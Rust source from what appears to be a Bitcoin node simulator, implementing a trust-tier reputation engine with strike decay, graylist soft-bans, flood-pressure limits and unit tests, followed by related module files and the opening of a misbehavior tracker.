//! a property pinned by fuzz tests in `crates/node/tests/reputation_props.rs`.

use super::rules::{tier_weight_of_penalty, CoreVersion, Misbehavior};
use super::tracker::GoodScoreTracker;
use btc_netsim::packet::SockAddr;
use btc_netsim::time::{Nanos, MINUTES, SECS};
use std::collections::BTreeMap;
use std::fmt;

/// The five trust tiers, ordered best → worst (so `Ord` compares standing).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug, Default)]
pub enum Tier {
    /// Earned credit and a clean sheet: shielded from eviction.
    Trusted,
    /// The default standing of a new peer.
    #[default]
    Normal,
    /// Strikes above the probation threshold: watched, fully serviced.
    Probation,
    /// Soft-banned: rate-limited, skipped by relay, first eviction choice.
    /// Expires after `graylist_duration` back into Probation.
    Graylist,
    /// Hard-banned: handed to `BanMan` for the stock 24 h identifier ban.
    Banned,
}

impl Tier {
    /// Short lowercase label (stable across output formats).
    pub fn label(&self) -> &'static str {
        match self {
            Tier::Trusted => "trusted",
            Tier::Normal => "normal",
            Tier::Probation => "probation",
            Tier::Graylist => "graylist",
            Tier::Banned => "banned",
        }
    }
}

impl fmt::Display for Tier {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.label())
    }
}

/// How strike points per misbehavior rule are derived.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum PenaltyWeights {
    /// Graded tier weights via [`tier_weight_of_penalty`] (the engine's
    /// purpose: Severe 40 / Moderate 15 / Light 5).
    #[default]
    Tiered,
    /// The raw stock penalty (100/20/10/1) — the equivalence-mode knob.
    Stock,
}

/// Tuning of the reputation engine. All times are sim time.
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct ReputationConfig {
    /// Rule-set version: deprecation and direction gating match the stock
    /// tracker exactly.
    pub version: CoreVersion,
    /// Strike weighting mode.
    pub weights: PenaltyWeights,
    /// Strikes at or above this demote Normal → Probation.
    pub probation_threshold: f64,
    /// Strikes at or above this enter the Graylist soft-ban.
    pub graylist_threshold: f64,
    /// Strikes at or above this — from within the Graylist — hard-ban.
    pub ban_threshold: f64,
    /// Promotion needs the score this far below the demotion boundary.
    pub hysteresis: f64,
    /// Strike-score half-life; `0` disables decay (equivalence mode).
    pub half_life: Nanos,
    /// Whether the graylist soft-ban stage exists. When `false`, crossing
    /// `ban_threshold` bans directly (the stock shape).
    pub graylist_enabled: bool,
    /// How long a graylist soft-ban lasts before Probation re-entry.
    pub graylist_duration: Nanos,
    /// Messages per second serviced from a graylisted peer.
    pub graylist_msgs_per_sec: f64,
    /// Credit needed (with a clean sheet) for Normal → Trusted.
    pub trusted_min_credit: u64,
    /// Strike points forgiven per good-behaviour credit.
    pub credit_forgiveness: f64,
    /// Whether flood-pressure accounting runs.
    pub pressure_enabled: bool,
    /// Flood bucket capacity, in messages (burst allowance).
    pub pressure_capacity: f64,
    /// Flood bucket refill rate, messages per second (sustained allowance).
    pub pressure_refill_per_sec: f64,
    /// Strike points charged when the flood bucket runs dry.
    pub pressure_strike: f64,
    /// Minimum spacing between two flood-pressure strikes on one peer.
    pub pressure_strike_cooldown: Nanos,
}

impl Default for ReputationConfig {
    fn default() -> Self {
        ReputationConfig {
            version: CoreVersion::default(),
            weights: PenaltyWeights::Tiered,
            probation_threshold: 30.0,
            graylist_threshold: 60.0,
            ban_threshold: 100.0,
            hysteresis: 10.0,
            half_life: 10 * MINUTES,
            graylist_enabled: true,
            graylist_duration: 120 * SECS,
            graylist_msgs_per_sec: 5.0,
            trusted_min_credit: 3,
            credit_forgiveness: 2.0,
            pressure_enabled: true,
            pressure_capacity: 300.0,
            pressure_refill_per_sec: 50.0,
            pressure_strike: 5.0,
            pressure_strike_cooldown: SECS,
        }
    }
}

impl ReputationConfig {
    /// The configuration under which the engine reproduces the stock
    /// tracker's ban decision bit for bit: stock penalties, no decay, no
    /// graylist stage, no pressure, no credit. Integer penalty sums stay
    /// exact in `f64` (well below 2⁵³), so the engine bans on exactly the
    /// event the stock tracker does.
    pub fn stock_equivalent(version: CoreVersion, threshold: u32) -> Self {
        ReputationConfig {
            version,
            weights: PenaltyWeights::Stock,
            probation_threshold: f64::from(threshold) * 0.3,
            graylist_threshold: f64::from(threshold) * 0.6,
            ban_threshold: f64::from(threshold),
            hysteresis: 0.0,
            half_life: 0,
            graylist_enabled: false,
            graylist_duration: 0,
            graylist_msgs_per_sec: f64::INFINITY,
            trusted_min_credit: u64::MAX,
            credit_forgiveness: 0.0,
            pressure_enabled: false,
            ..ReputationConfig::default()
        }
    }

    /// Strike points for `rule` under this config, or `None` when the rule
    /// is deprecated in `version` (same gating as the stock tracker).
    pub fn strike_points(&self, rule: Misbehavior) -> Option<f64> {
        let stock = rule.penalty(self.version)?;
        Some(match self.weights {
            PenaltyWeights::Tiered => tier_weight_of_penalty(stock).points(),
            PenaltyWeights::Stock => f64::from(stock),
        })
    }
}

/// Per-peer reputation state.
#[derive(Clone, Copy, Debug)]
struct PeerRep {
    /// Strike score at `scored_at` (decays forward from there).
    strikes: f64,
    scored_at: Nanos,
    tier: Tier,
    /// When the current graylist stint expires (only valid in Graylist).
    graylist_until: Nanos,
    /// Flood-pressure bucket: tokens remaining at `tokens_at`.
    tokens: f64,
    tokens_at: Nanos,
    /// Last flood-pressure strike (cooldown anchor); `None` encoded as 0
    /// with `pressure_struck = false`.
    last_pressure_strike: Nanos,
    pressure_struck: bool,
    /// Graylist service allowance (token bucket, 1-second burst).
    gray_allowance: f64,
    gray_at: Nanos,
}

impl PeerRep {
    fn fresh(now: Nanos, cfg: &ReputationConfig) -> Self {
        PeerRep {
            strikes: 0.0,
            scored_at: now,
            tier: Tier::Normal,
            graylist_until: 0,
            tokens: cfg.pressure_capacity,
            tokens_at: now,
            last_pressure_strike: 0,
            pressure_struck: false,
            gray_allowance: cfg.graylist_msgs_per_sec,
            gray_at: now,
        }
    }
}

/// One recorded tier transition (telemetry feed).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct TierTransition {
    /// When it happened.
    pub time: Nanos,
    /// Which peer.
    pub peer: SockAddr,
    /// Standing before.
    pub from: Tier,
    /// Standing after.
    pub to: Tier,
}

/// Outcome of one strike (or credit) application.
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct StrikeOutcome {
    /// Points actually applied (0 when the rule was gated off).
    pub applied: f64,
    /// Decayed strike score after the event.
    pub score: f64,
    /// Tier before.
    pub from: Tier,
    /// Tier after.
    pub to: Tier,
}

impl StrikeOutcome {
    /// The event moved the peer across a tier boundary.
    pub fn changed(&self) -> bool {
        self.from != self.to
    }

    /// The event triggered the hard (BanMan) ban.
    pub fn banned(&self) -> bool {
        self.changed() && self.to == Tier::Banned
    }

    /// The event entered the graylist soft-ban.
    pub fn graylisted(&self) -> bool {
        self.changed() && self.to == Tier::Graylist
    }
}

/// Outcome of per-message accounting ([`ReputationEngine::on_message`]).
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct MessageOutcome {
    /// Whether the message should be processed at all. `false` only while
    /// graylisted and over the service rate limit.
    pub deliver: bool,
    /// Whether this message tripped a flood-pressure strike.
    pub pressure_strike: bool,
    /// Tier before.
    pub from: Tier,
    /// Tier after (pressure strikes can demote, expiry can promote).
    pub to: Tier,
}

impl MessageOutcome {
    /// The event moved the peer across a tier boundary.
    pub fn changed(&self) -> bool {
        self.from != self.to
    }

    /// The event triggered the hard (BanMan) ban.
    pub fn banned(&self) -> bool {
        self.changed() && self.to == Tier::Banned
    }
}

/// The engine: per-identifier tier state plus the embedded good-behaviour
/// credit tracker. All methods are deterministic functions of (state, sim
/// time, event); nothing reads wall clocks or unseeded randomness.
#[derive(Clone, Debug)]
pub struct ReputationEngine {
    config: ReputationConfig,
    peers: BTreeMap<SockAddr, PeerRep>,
    credit: GoodScoreTracker,
    transitions: Vec<TierTransition>,
    pending: Vec<TierTransition>,
}

/// Cap on the recorded transition history (mirrors `BanMan`'s history cap;
/// the oldest entries are dropped first).
const TRANSITION_HISTORY_CAP: usize = 4096;

impl ReputationEngine {
    /// Creates an engine with the given tuning.
    ///
    /// The config is sanity-clamped rather than trusted: the degradation
    /// ladder requires `probation ≤ graylist ≤ ban`, and the
    /// graylist-before-ban guarantee additionally needs every single
    /// penalty to be at most `ban − graylist` (checked by
    /// `severe_fits_graylist_gap` below for the default tuning).
    pub fn new(mut config: ReputationConfig) -> Self {
        config.graylist_threshold = config.graylist_threshold.min(config.ban_threshold);
        config.probation_threshold = config.probation_threshold.min(config.graylist_threshold);
        ReputationEngine {
            config,
            peers: BTreeMap::new(),
            credit: GoodScoreTracker::new(),
            transitions: Vec::new(),
            pending: Vec::new(),
        }
    }

    /// The active tuning.
    pub fn config(&self) -> &ReputationConfig {
        &self.config
    }

    /// Recorded tier transitions, oldest first (bounded history).
    pub fn transitions(&self) -> &[TierTransition] {
        &self.transitions
    }

    /// Drains the transitions recorded since the last drain, oldest first
    /// (the node forwards these into telemetry; `transitions()` keeps the
    /// bounded history regardless). Taking an empty backlog allocates
    /// nothing.
    pub fn take_transitions(&mut self) -> Vec<TierTransition> {
        std::mem::take(&mut self.pending)
    }

    /// Number of peers with reputation state.
    pub fn tracked_peers(&self) -> usize {
        self.peers.len()
    }

    /// Read access to the embedded credit tracker.
    pub fn credit_tracker(&self) -> &GoodScoreTracker {
        &self.credit
    }

    /// Decayed strike score of `peer` at `now` (0 if never seen).
    pub fn score(&self, now: Nanos, peer: &SockAddr) -> f64 {
        self.peers
            .get(peer)
            .map(|r| self.decayed(r.strikes, r.scored_at, now))
            .unwrap_or(0.0)
    }

    /// Current tier of `peer` at `now`, accounting for graylist expiry
    /// (read-only: the transition itself is recorded on the next event).
    pub fn tier(&self, now: Nanos, peer: &SockAddr) -> Tier {
        match self.peers.get(peer) {
            None => Tier::Normal,
            Some(r) => match r.tier {
                Tier::Graylist if now >= r.graylist_until => Tier::Probation,
                t => t,
            },
        }
    }

    /// Whether `peer` is currently under the graylist soft-ban.
    pub fn is_graylisted(&self, now: Nanos, peer: &SockAddr) -> bool {
        self.tier(now, peer) == Tier::Graylist
    }

    /// Whether `peer` should be skipped for relay and deprioritized for
    /// outbound selection (graylisted or worse).
    pub fn deprioritized(&self, now: Nanos, peer: &SockAddr) -> bool {
        self.tier(now, peer) >= Tier::Graylist
    }

    /// Drops all state for `peer` (used when an identifier is recycled;
    /// note that ordinary disconnects deliberately do NOT forget strikes —
    /// decay is the only forgiveness, which is what defeats the
    /// reconnect-and-reset Sybil pattern the stock tracker allows).
    pub fn forget(&mut self, peer: &SockAddr) {
        self.peers.remove(peer);
    }

    /// `score · 2^(−Δt/half_life)` — the decay law. `half_life == 0`
    /// disables decay (equivalence mode).
    fn decayed(&self, strikes: f64, since: Nanos, now: Nanos) -> f64 {
        Self::decay_value(&self.config, strikes, since, now)
    }

    /// Settles decay, graylist expiry and decay-based promotion for
    /// `peer` at `now`, returning the tier it holds *after* settlement.
    /// Tier changes caused purely by the passage of time (expiry, decay
    /// below a promotion boundary) are recorded here.
    fn settle(&mut self, now: Nanos, peer: SockAddr) -> Tier {
        let cfg = self.config;
        let credit = self.credit.score(now, &peer);
        let mut transition: Option<(Tier, Tier)> = None;
        let tier;
        {
            let rep = self
                .peers
                .entry(peer)
                .or_insert_with(|| PeerRep::fresh(now, &cfg));
            rep.strikes = Self::decay_value(&cfg, rep.strikes, rep.scored_at, now);
            rep.scored_at = rep.scored_at.max(now);
            let cur = rep.tier;
            let next = match cur {
                // Soft-ban served: re-enter at (at best) Probation with the
                // score clamped to the probation boundary, so one further
                // moderate strike is a second chance, not an instant
                // re-graylist.
                Tier::Graylist if now >= rep.graylist_until => {
                    rep.strikes = rep.strikes.min(cfg.probation_threshold);
                    Self::ladder_of(&cfg, rep.strikes, credit, Tier::Probation)
                }
                // BanMan owns the 24 h connection refusal; once the strikes
                // have decayed below probation the engine's standing
                // recovers too, so a re-admitted identifier is watched, not
                // damned forever.
                Tier::Banned if cfg.half_life != 0 && rep.strikes < cfg.probation_threshold => {
                    Self::ladder_of(&cfg, rep.strikes, credit, cur)
                }
                Tier::Graylist | Tier::Banned => cur,
                _ => Self::ladder_of(&cfg, rep.strikes, credit, cur),
            };
            if next != cur {
                transition = Some((cur, next));
            }
            rep.tier = next;
            tier = next;
        }
        if let Some((from, to)) = transition {
            self.record(now, peer, from, to);
        }
        tier
    }

    fn decay_value(cfg: &ReputationConfig, strikes: f64, since: Nanos, now: Nanos) -> f64 {
        if cfg.half_life == 0 || strikes == 0.0 {
            return strikes;
        }
        let dt = now.saturating_sub(since);
        if dt == 0 {
            return strikes;
        }
        strikes * (-(dt as f64 / cfg.half_life as f64)).exp2()
    }

    fn record(&mut self, time: Nanos, peer: SockAddr, from: Tier, to: Tier) {
        if self.transitions.len() >= TRANSITION_HISTORY_CAP {
            self.transitions.remove(0);
        }
        if self.pending.len() >= TRANSITION_HISTORY_CAP {
            self.pending.remove(0);
        }
        self.pending.push(TierTransition {
            time,
            peer,
            from,
            to,
        });
        self.transitions.push(TierTransition {
            time,
            peer,
            from,
            to,
        });
    }

    /// Tier the ladder assigns for `strikes`/`credit`, given the peer's
    /// current standing (`cur`) — the hysteresis anchor. Graylist/Banned
    /// entry and exit are handled by the caller; this ladder only ranks
    /// Trusted / Normal / Probation.
    fn ladder_of(cfg: &ReputationConfig, strikes: f64, credit: u64, cur: Tier) -> Tier {
        if strikes >= cfg.probation_threshold {
            return Tier::Probation;
        }
        // Hysteresis hold: a probation peer stays put until the score has
        // decayed a full `hysteresis` below the boundary.
        if cur >= Tier::Probation && strikes > cfg.probation_threshold - cfg.hysteresis {
            return Tier::Probation;
        }
        if credit >= cfg.trusted_min_credit
            && strikes <= (cfg.probation_threshold - cfg.hysteresis).max(0.0)
        {
            return Tier::Trusted;
        }
        Tier::Normal
    }

    /// Applies `points` of strike to `peer` and reclassifies. The common
    /// path for rule strikes, raw (ablation) strikes and pressure strikes.
    fn strike(&mut self, now: Nanos, peer: SockAddr, points: f64) -> StrikeOutcome {
        let before = self.settle(now, peer);
        let cfg = self.config;
        let credit = self.credit.score(now, &peer);
        let score = match self.peers.get_mut(&peer) {
            Some(rep) => {
                // lint:allow(score-arith): f64 strikes saturate to +inf rather than wrap; ban fires at the threshold long before
                rep.strikes += points;
                rep.strikes
            }
            // settle() always inserts; unreachable, but no panic path.
            None => {
                return StrikeOutcome {
                    applied: 0.0,
                    score: 0.0,
                    from: before,
                    to: before,
                };
            }
        };
        let mut enter_graylist = false;
        let to = match before {
            Tier::Banned => Tier::Banned,
            Tier::Graylist => {
                if score >= cfg.ban_threshold {
                    Tier::Banned
                } else {
                    Tier::Graylist
                }
            }
            _ => {
                if cfg.graylist_enabled {
                    if score >= cfg.graylist_threshold {
                        // Every path to a hard ban leads through the
                        // graylist: even an over-threshold score only
                        // soft-bans on entry.
                        enter_graylist = true;
                        Tier::Graylist
                    } else {
                        Self::ladder_of(&cfg, score, credit, before)
                    }
                } else if score >= cfg.ban_threshold {
                    Tier::Banned
                } else {
                    Self::ladder_of(&cfg, score, credit, before)
                }
            }
        };
        if let Some(rep) = self.peers.get_mut(&peer) {
            rep.tier = to;
            if enter_graylist {
                rep.graylist_until = now.saturating_add(cfg.graylist_duration);
                rep.gray_allowance = cfg.graylist_msgs_per_sec;
                rep.gray_at = now;
            }
        }
        if before != to {
            self.record(now, peer, before, to);
        }
        StrikeOutcome {
            applied: points,
            score,
            from: before,
            to,
        }
    }

    /// Records a Table-I misbehavior by `peer`. Direction and deprecation
    /// gating match the stock tracker; the points are weighted per
    /// [`ReputationConfig::strike_points`].
    pub fn on_misbehavior(
        &mut self,
        now: Nanos,
        peer: SockAddr,
        inbound: bool,
        rule: Misbehavior,
    ) -> StrikeOutcome {
        if !rule.applies_to(inbound) {
            let t = self.tier(now, &peer);
            return StrikeOutcome {
                applied: 0.0,
                score: self.score(now, &peer),
                from: t,
                to: t,
            };
        }
        let Some(points) = self.config.strike_points(rule) else {
            let t = self.tier(now, &peer);
            return StrikeOutcome {
                applied: 0.0,
                score: self.score(now, &peer),
                from: t,
                to: t,
            };
        };
        self.strike(now, peer, points)
    }

    /// Applies a raw strike outside Table I (the checksum-ablation hook),
    /// graded through the same weight classes as rule strikes.
    pub fn strike_raw(&mut self, now: Nanos, peer: SockAddr, stock_points: u32) -> StrikeOutcome {
        let points = match self.config.weights {
            PenaltyWeights::Tiered => tier_weight_of_penalty(stock_points).points(),
            PenaltyWeights::Stock => f64::from(stock_points),
        };
        if points == 0.0 {
            let t = self.tier(now, &peer);
            return StrikeOutcome {
                applied: 0.0,
                score: self.score(now, &peer),
                from: t,
                to: t,
            };
        }
        self.strike(now, peer, points)
    }

    /// Per-message accounting: flood pressure plus the graylist service
    /// rate limit. Call once per checksum-valid frame *before* dispatch;
    /// `deliver == false` means the frame is dropped unprocessed.
    pub fn on_message(&mut self, now: Nanos, peer: SockAddr) -> MessageOutcome {
        let before = self.settle(now, peer);
        let cfg = self.config;
        let mut pressure_due = false;
        let mut deliver = true;
        if let Some(rep) = self.peers.get_mut(&peer) {
            if cfg.pressure_enabled {
                let dt = now.saturating_sub(rep.tokens_at);
                // lint:allow(score-arith): f64 token refill clamped by the min() to the bucket capacity
                rep.tokens = (rep.tokens + dt as f64 / SECS as f64 * cfg.pressure_refill_per_sec)
                    .min(cfg.pressure_capacity);
                rep.tokens_at = now;
                if rep.tokens >= 1.0 {
                    // lint:allow(score-arith): guarded by the >= 1.0 branch; cannot underflow
                    rep.tokens -= 1.0;
                } else {
                    let cooled = !rep.pressure_struck
                        || now.saturating_sub(rep.last_pressure_strike)
                            >= cfg.pressure_strike_cooldown;
                    if cooled {
                        rep.last_pressure_strike = now;
                        rep.pressure_struck = true;
                        pressure_due = true;
                    }
                }
            }
            if rep.tier == Tier::Graylist {
                let dt = now.saturating_sub(rep.gray_at);
                // lint:allow(score-arith): f64 refill clamped by the min() to the configured ceiling
                rep.gray_allowance = (rep.gray_allowance
                    + dt as f64 / SECS as f64 * cfg.graylist_msgs_per_sec)
                    .min(cfg.graylist_msgs_per_sec.max(1.0));
                rep.gray_at = now;
                if rep.gray_allowance >= 1.0 {
                    // lint:allow(score-arith): guarded by the >= 1.0 branch; cannot underflow
                    rep.gray_allowance -= 1.0;
                } else {
                    deliver = false;
                }
            }
        }
        let to = if pressure_due {
            self.strike(now, peer, cfg.pressure_strike).to
        } else {
            self.peers.get(&peer).map(|r| r.tier).unwrap_or(before)
        };
        MessageOutcome {
            deliver,
            pressure_strike: pressure_due,
            from: before,
            to,
        }
    }

    /// Credits `peer` for good behaviour (a valid block): feeds the
    /// embedded [`GoodScoreTracker`] and forgives `credit_forgiveness`
    /// strike points, possibly promoting the peer.
    pub fn on_good_block(&mut self, now: Nanos, peer: SockAddr) -> StrikeOutcome {
        let before = self.settle(now, peer);
        self.credit.credit(now, peer);
        let cfg = self.config;
        let credit = self.credit.score(now, &peer);
        let mut score = 0.0;
        if let Some(rep) = self.peers.get_mut(&peer) {
            // lint:allow(score-arith): f64 strikes clamped at 0.0 by the max(); floats cannot wrap
            rep.strikes = (rep.strikes - cfg.credit_forgiveness).max(0.0);
            score = rep.strikes;
        }
        // Credits never demote and never touch graylist/ban standing.
        let to = match before {
            Tier::Banned | Tier::Graylist => before,
            _ => Self::ladder_of(&cfg, score, credit, before),
        };
        if let Some(rep) = self.peers.get_mut(&peer) {
            rep.tier = to;
        }
        if before != to {
            self.record(now, peer, before, to);
        }
        StrikeOutcome {
            applied: -cfg.credit_forgiveness,
            score,
            from: before,
            to,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn peer(last: u8) -> SockAddr {
        SockAddr::new([10, 0, 0, last], 8333)
    }

    fn engine() -> ReputationEngine {
        ReputationEngine::new(ReputationConfig::default())
    }

    #[test]
    fn severe_fits_graylist_gap() {
        // The graylist-before-ban guarantee: no single weighted penalty
        // may exceed ban_threshold - graylist_threshold.
        let cfg = ReputationConfig::default();
        let max = super::super::rules::TIER_WEIGHTS
            .iter()
            .map(|(_, w)| w.points())
            .fold(0.0f64, f64::max);
        assert!(max <= cfg.ban_threshold - cfg.graylist_threshold);
    }

    #[test]
    fn severe_strikes_pass_through_graylist_before_ban() {
        let mut e = engine();
        let p = peer(1);
        // 40 → Probation, 80 → Graylist (never straight to ban).
        assert_eq!(
            e.on_misbehavior(0, p, true, Misbehavior::BlockMutated).to,
            Tier::Probation
        );
        let o = e.on_misbehavior(1, p, true, Misbehavior::BlockMutated);
        assert!(o.graylisted(), "{o:?}");
        // Third severe strike from within the graylist: hard ban.
        let o = e.on_misbehavior(2, p, true, Misbehavior::BlockMutated);
        assert!(o.banned(), "{o:?}");
    }

    #[test]
    fn decay_forgives_stale_strikes() {
        let mut e = engine();
        let p = peer(2);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        let half_life = e.config().half_life;
        assert_eq!(e.score(0, &p), 40.0);
        assert_eq!(e.score(half_life, &p), 20.0);
        assert_eq!(e.score(2 * half_life, &p), 10.0);
        assert!(e.score(100 * half_life, &p) < 1e-9);
    }

    #[test]
    fn graylist_expires_into_probation() {
        let mut e = engine();
        let p = peer(3);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        e.on_misbehavior(1, p, true, Misbehavior::BlockMutated);
        assert_eq!(e.tier(1, &p), Tier::Graylist);
        let until = 1 + e.config().graylist_duration;
        assert_eq!(e.tier(until - 1, &p), Tier::Graylist);
        assert_eq!(e.tier(until, &p), Tier::Probation);
        // The settled score is clamped to the probation boundary.
        let o = e.on_message(until, p);
        assert_eq!(o.from, Tier::Probation);
        assert!(e.score(until, &p) <= e.config().probation_threshold);
    }

    #[test]
    fn graylist_rate_limits_service() {
        let mut e = engine();
        let p = peer(4);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        assert_eq!(e.tier(0, &p), Tier::Graylist);
        // The 1-second allowance (5 msgs) drains, then frames drop.
        let mut delivered = 0;
        for _ in 0..20 {
            if e.on_message(1, p).deliver {
                delivered += 1;
            }
        }
        assert_eq!(delivered, e.config().graylist_msgs_per_sec as usize);
        // Allowance refills with sim time.
        assert!(e.on_message(1 + SECS, p).deliver);
    }

    #[test]
    fn normal_peers_are_not_rate_limited() {
        let mut e = engine();
        let p = peer(5);
        for _ in 0..100 {
            assert!(e.on_message(0, p).deliver);
        }
    }

    #[test]
    fn flood_pressure_strikes_unprotected_floods() {
        let mut e = engine();
        let p = peer(6);
        // Burst far past the bucket capacity at t=0: the bucket drains and
        // exactly one strike fires (cooldown gates the rest).
        let cap = e.config().pressure_capacity as usize;
        let mut strikes = 0;
        for _ in 0..cap + 50 {
            if e.on_message(0, p).pressure_strike {
                strikes += 1;
            }
        }
        assert_eq!(strikes, 1);
        assert_eq!(e.score(0, &p), e.config().pressure_strike);
        // A sustained flood keeps striking once per cooldown and
        // eventually graylists the flooder.
        let mut t = 0;
        for _ in 0..1000 {
            t += e.config().pressure_strike_cooldown;
            for _ in 0..200 {
                e.on_message(t, p);
            }
            if e.tier(t, &p) == Tier::Graylist {
                break;
            }
        }
        assert_eq!(e.tier(t, &p), Tier::Graylist);
    }

    #[test]
    fn credit_promotes_to_trusted_and_forgives() {
        let mut e = engine();
        let p = peer(7);
        e.on_misbehavior(0, p, true, Misbehavior::AddrOversize); // 15 points
        assert_eq!(e.tier(0, &p), Tier::Normal);
        for _ in 0..e.config().trusted_min_credit {
            e.on_good_block(0, p);
        }
        // 15 - 3*2 = 9 strikes, credit 3 → Trusted.
        assert_eq!(e.score(0, &p), 9.0);
        assert_eq!(e.tier(0, &p), Tier::Trusted);
    }

    #[test]
    fn hysteresis_holds_probation_near_boundary() {
        let mut e = engine();
        let p = peer(8);
        e.on_misbehavior(0, p, true, Misbehavior::AddrOversize);
        e.on_misbehavior(0, p, true, Misbehavior::AddrOversize);
        assert_eq!(e.tier(0, &p), Tier::Probation); // 30 points
        // Decay to just inside the hysteresis band: still Probation.
        let cfg = *e.config();
        let hl = cfg.half_life;
        // 30 → 21.2 after ~half a half-life: > 20 (= 30 - 10) → held.
        let t = hl / 2;
        let o = e.on_message(t, p);
        assert_eq!(o.to, Tier::Probation);
        // Decay below the band: promoted back to Normal.
        let t2 = 2 * hl; // 30 → 7.5
        let o = e.on_message(t2, p);
        assert_eq!(o.to, Tier::Normal);
    }

    #[test]
    fn banned_standing_recovers_after_decay() {
        let mut e = engine();
        let p = peer(9);
        for t in 0..3 {
            e.on_misbehavior(t, p, true, Misbehavior::BlockMutated);
        }
        assert_eq!(e.tier(2, &p), Tier::Banned);
        // 120 strikes decay to 15 after three half-lives — below the
        // probation threshold AND the hysteresis band, so the standing
        // recovers all the way to Normal (BanMan still gates reconnects).
        let t = 2 + 3 * e.config().half_life;
        e.on_message(t, p);
        assert_eq!(e.tier(t, &p), Tier::Normal);
        // Within the hysteresis band ((20, 30): ~2.2 half-lives) the
        // recovery lands at Probation instead.
        let mut e2 = engine();
        for t in 0..3 {
            e2.on_misbehavior(t, p, true, Misbehavior::BlockMutated);
        }
        let t2 = 2 + (2 * e2.config().half_life + e2.config().half_life / 4);
        e2.on_message(t2, p);
        assert_eq!(e2.tier(t2, &p), Tier::Probation);
    }

    #[test]
    fn direction_and_deprecation_gating_matches_stock() {
        let mut e = engine();
        // Outbound-only rule ignored for inbound peer.
        let o = e.on_misbehavior(0, peer(10), true, Misbehavior::BlockCachedInvalid);
        assert_eq!(o.applied, 0.0);
        // Deprecated rule ignored under 0.22.
        let mut e22 = ReputationEngine::new(ReputationConfig {
            version: CoreVersion::V0_22,
            ..ReputationConfig::default()
        });
        let o = e22.on_misbehavior(0, peer(10), true, Misbehavior::DuplicateVersion);
        assert_eq!(o.applied, 0.0);
    }

    #[test]
    fn stock_equivalent_bans_at_stock_threshold() {
        let mut e = ReputationEngine::new(ReputationConfig::stock_equivalent(
            CoreVersion::V0_20,
            100,
        ));
        let p = peer(11);
        for i in 0..4 {
            let o = e.on_misbehavior(i, p, true, Misbehavior::AddrOversize);
            assert!(!o.banned(), "banned early at {i}: {o:?}");
        }
        let o = e.on_misbehavior(4, p, true, Misbehavior::AddrOversize);
        assert!(o.banned(), "{o:?}");
        assert_eq!(o.score, 100.0);
    }

    #[test]
    fn transitions_are_recorded_and_bounded() {
        let mut e = engine();
        let p = peer(12);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        e.on_misbehavior(1, p, true, Misbehavior::BlockMutated);
        let ts = e.transitions();
        assert_eq!(ts.len(), 2);
        assert_eq!(
            (ts[0].from, ts[0].to, ts[1].from, ts[1].to),
            (Tier::Normal, Tier::Probation, Tier::Probation, Tier::Graylist)
        );
        // History stays bounded under adversarial churn.
        for i in 0..2 * TRANSITION_HISTORY_CAP {
            let q = SockAddr::new([10, 1, (i >> 8) as u8, i as u8], 9000);
            e.on_misbehavior(0, q, true, Misbehavior::BlockMutated);
        }
        assert!(e.transitions().len() <= TRANSITION_HISTORY_CAP);
    }

    #[test]
    fn forget_drops_state() {
        let mut e = engine();
        let p = peer(13);
        e.on_misbehavior(0, p, true, Misbehavior::BlockMutated);
        assert_eq!(e.tracked_peers(), 1);
        e.forget(&p);
        assert_eq!(e.tracked_peers(), 0);
        assert_eq!(e.score(0, &p), 0.0);
    }
}
