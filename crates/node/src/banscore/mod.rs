//! The ban-score mechanism: Table-I rules, the misbehavior tracker, and
//! the trust-tier reputation engine layered on top of both.

pub mod reputation;
pub mod rules;
pub mod tracker;

pub use reputation::{
    MessageOutcome, PenaltyWeights, ReputationConfig, ReputationEngine, StrikeOutcome, Tier,
    TierTransition,
};
pub use rules::{
    protected_message_types, render_table1, tier_weight, tier_weight_of_penalty,
    unprotected_message_types, BanObject, CoreVersion, Misbehavior, MisbehaviorKind, TierWeight,
    ALL_MISBEHAVIORS, TIER_WEIGHTS,
};
pub use tracker::{BanPolicy, GoodScoreTracker, MisbehaviorTracker, ScoreEvent, Verdict};
