//! The ban-score mechanism: Table-I rules and the misbehavior tracker.

pub mod rules;
pub mod tracker;

pub use rules::{
    protected_message_types, render_table1, unprotected_message_types, BanObject, CoreVersion,
    Misbehavior, MisbehaviorKind, ALL_MISBEHAVIORS,
};
pub use tracker::{BanPolicy, GoodScoreTracker, MisbehaviorTracker, ScoreEvent, Verdict};
