//! Misbehavior tracking: the per-peer score keeping of `PeerManager::
//! Misbehaving`, plus the paper's §VIII countermeasure variants (threshold
//! → ∞, fully disabled, and the good-score mechanism).

use super::rules::{CoreVersion, Misbehavior};
use btc_netsim::packet::SockAddr;
use btc_netsim::time::Nanos;
use std::collections::BTreeMap;

/// How the node reacts to misbehavior (§VIII of the paper).
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum BanPolicy {
    /// Stock behaviour: ban at the threshold (100 by default).
    #[default]
    Standard,
    /// "Ban score threshold to ∞": keep tracking, never ban.
    NeverBan,
    /// "Disabling the checking": `Misbehaving` is a no-op.
    Disabled,
}

/// One recorded score change (used for the Figure-8 staircase).
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct ScoreEvent {
    /// When it happened.
    pub time: Nanos,
    /// Which peer.
    pub peer: SockAddr,
    /// The rule that fired.
    pub rule: Misbehavior,
    /// Points added.
    pub delta: u32,
    /// Score after the increment.
    pub total: u32,
}

/// The verdict of one `misbehaving()` call.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Verdict {
    /// Rule disabled (version deprecation, policy, or wrong direction).
    Ignored,
    /// Score increased, still below the threshold.
    Scored {
        /// New total.
        total: u32,
    },
    /// Threshold reached: disconnect and ban this peer.
    Ban {
        /// Final total.
        total: u32,
    },
}

/// Per-peer misbehavior score tracker.
#[derive(Clone, Debug, Default)]
